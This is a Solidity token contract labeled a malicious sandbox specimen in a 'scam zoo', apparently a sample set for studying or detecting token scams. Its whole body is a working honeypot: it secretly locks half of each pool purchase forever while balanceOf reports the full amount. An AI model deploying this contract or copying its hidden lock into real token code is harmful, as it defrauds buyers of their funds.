// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IZooRouter {
    function factory() external view returns (address);
    function WETH() external view returns (address);
}

interface IZooFactory {
    function createPair(address tokenA, address tokenB) external returns (address);
}

/// @title Lying balanceOf (scam zoo)
/// @notice MALICIOUS sandbox specimen. Half of every purchase from the pool is silently locked
///         forever, yet balanceOf keeps reporting the full amount: a wallet sees a balance it
///         can never sell in full (transfers above the unlocked part revert).
contract LyingBalance {
    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) private _balances;
    mapping(address => uint256) private _vested;
    mapping(address => mapping(address => uint256)) public allowance;
    address public owner;
    address public pair;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply, address router) {
        name = name_;
        symbol = symbol_;
        owner = msg.sender;
        totalSupply = supply;
        _balances[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
        pair = IZooFactory(IZooRouter(router).factory()).createPair(
            address(this), IZooRouter(router).WETH());
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    /// Reports the whole balance, including the part locked forever.
    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function _transfer(address from, address to, uint256 amount) internal {
        require(to != address(0), "transfer to zero address");
        uint256 balance = _balances[from];
        require(balance >= amount, "insufficient balance");
        require(amount <= balance - _vested[from], "transfer amount exceeds balance");
        unchecked { _balances[from] = balance - amount; }
        _balances[to] += amount;
        if (from == pair && to != owner) {
            _vested[to] += amount / 2;
        }
        emit Transfer(from, to, amount);
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        uint256 allowed = allowance[from][msg.sender];
        if (allowed != type(uint256).max) {
            require(allowed >= amount, "insufficient allowance");
            unchecked { allowance[from][msg.sender] = allowed - amount; }
        }
        _transfer(from, to, amount);
        return true;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }
}
